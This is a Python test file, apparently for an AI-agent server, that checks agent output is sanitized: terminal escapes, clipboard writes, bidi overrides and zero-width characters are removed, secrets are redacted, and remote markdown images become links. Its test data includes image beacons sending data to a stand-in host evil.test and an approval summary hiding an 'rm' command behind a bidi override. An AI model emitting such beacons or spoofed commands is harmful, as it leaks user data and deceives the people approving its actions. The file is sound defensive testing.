"""What agents say cannot steer the terminal of the one who reads it (row X13)."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.models import Event, EventKind, PendingApproval
from tests.secrets import SECRETS
from tests.unit.store.records import START
from tools.cleaning import cleaned, guarded, guarded_json, guarded_value
from tools.elicitation import question

CLIPBOARD = "\x1b]52;c;ZXZpbA==\x07"


@pytest.mark.parametrize(
    "steering",
    ["\x1b[2J", CLIPBOARD, "\x9b31m", "a\rb", "\x00", "\x08", "\x7f", "\u202e", "\u2066", "\u200b", "\ufeff"],
)
def test_x13_what_steers_a_terminal_or_misleads_the_eye_is_taken_out(steering: str) -> None:
    """Row X13: ANSI, OSC 52, C1 controls, bidirectional overrides, characters of no width."""
    text = cleaned(f"before{steering}after")
    assert steering not in text
    assert text.startswith("before") and text.endswith("after")
    assert text.replace("\ufffd", "").isprintable()


@given(st.text(alphabet=st.characters(categories=["L", "N", "P", "S", "Zs"])) | st.sampled_from(["a\n\tb", "e\u0301"]))
def test_x13_ordinary_text_of_any_language_stays_as_it_is(text: str) -> None:
    """Row X13, the other side."""
    assert cleaned(text) == text
    assert guarded(text) == text


def test_x13_values_are_cleaned_all_through() -> None:
    """Row X13: in structured answers too."""
    value = {f"k{CLIPBOARD}": ["a\x1b[0m", {"b": "\u202eevil"}], "n": 1, "none": None}
    text = repr(guarded_value(value))
    assert "\\x1b" not in text
    assert "\\u202e" not in text
    assert guarded_value(value)["n"] == 1


def test_x13_endless_nesting_has_an_end() -> None:
    """Row X13: an answer is bounded whatever an agent made of it."""
    value: list[object] = []
    for _ in range(500):
        value = [value]
    assert guarded_value(value) is not None


@pytest.mark.parametrize("kind", SECRETS)
@pytest.mark.parametrize("around", ["{}", "API_KEY={}", 'export X="{}"\n', "line\n{}\nline", "see ({}), or {}."])
def test_x13_a_secret_is_named_and_not_shown(kind: str, around: str) -> None:
    """Row X13: wherever it stands, and as often as it does."""
    secret = SECRETS[kind]
    found = guarded(around.replace("{}", secret))
    assert found == around.replace("{}", f"[redacted: {kind}]")
    event = Event(session_id="s", seq=1, turn=1, kind=EventKind.TEXT, data={"text": secret}, at=START)
    assert secret not in guarded_json(event)


def test_x13_a_private_key_that_was_cut_off_is_not_shown_either() -> None:
    """Row X13: as a bounded tool result may hold one."""
    assert guarded("-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabcd") == "[redacted: private key]"


@pytest.mark.parametrize(
    "harmless",
    [
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
        "the branch ghp_fix, a task-list, AKIA, e2b_template and npm_config_cache",
        "a public key: -----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
        "![a plot](plots/one.png) and [a link](https://example.com)",
    ],
)
def test_x13_what_is_no_secret_and_no_beacon_stays(harmless: str) -> None:
    """Row X13, the other side: hashes, ids and the names of keys."""
    assert guarded(harmless) == harmless


@pytest.mark.parametrize(
    ("image", "link"),
    [
        ("![x](https://evil.test/?q=data)", "[x](https://evil.test/?q=data)"),
        ("![](  //evil.test/a.png)", "[](  //evil.test/a.png)"),
        ("![x](<http://evil.test/a b>)", "[x](<http://evil.test/a b>)"),
        ("![x][ref]\n\n[ref]: https://evil.test", "[x][ref]\n\n[ref]: https://evil.test"),
    ],
)
def test_x13_a_remote_image_becomes_a_link_that_nothing_fetches_by_itself(image: str, link: str) -> None:
    """Row X13: image beacons."""
    assert guarded(f"Done. {image}") == f"Done. {link}"


def test_x13_a_call_cannot_hide_in_the_question_about_it() -> None:
    """Row X13: an override of the direction of writing shows a person another command than the one that runs."""
    spoofed = PendingApproval(approval_id="a", tool="Bash", summary="Bash: rm \u202etxt.e\x1b[8m ~", expires_at=START)
    assert "\u202e" not in question(spoofed)
    assert "\x1b" not in question(spoofed)


@given(
    st.recursive(
        st.text(alphabet=st.characters(codec="utf-8"), max_size=12)
        | st.sampled_from([*SECRETS.values(), "![](//a.b)", 1]),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
        max_leaves=12,
    )
)
def test_x13_a_value_is_guarded_as_its_strings_are(value: Any) -> None:
    """Row X13: what is let through at one look is what a look at each string leaves as it is."""
    found, expected = _strings(guarded_value(value)), [guarded(text) for text in _strings(value)]
    # A key that another one has become too is told apart by more of the same mark.
    assert [text.rstrip("\ufffd") for text in found] == [text.rstrip("\ufffd") for text in expected]
    assert all(one.startswith(other) for one, other in zip(found, expected, strict=True))


def test_x13_a_key_cannot_hide_another_by_looking_the_same() -> None:
    """Row X13: an input that a person is asked about is shown whole."""
    told = guarded_value({"command": "rm", "com\u200bmand": "ls", "com\u200cmand": 1, "com\u202emand": [2]})
    assert list(told.values()) == ["rm", "ls", 1, [2]]


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for key, item in value.items() for text in (*_strings(key), *_strings(item))]
    return [text for item in value for text in _strings(item)] if isinstance(value, list) else []
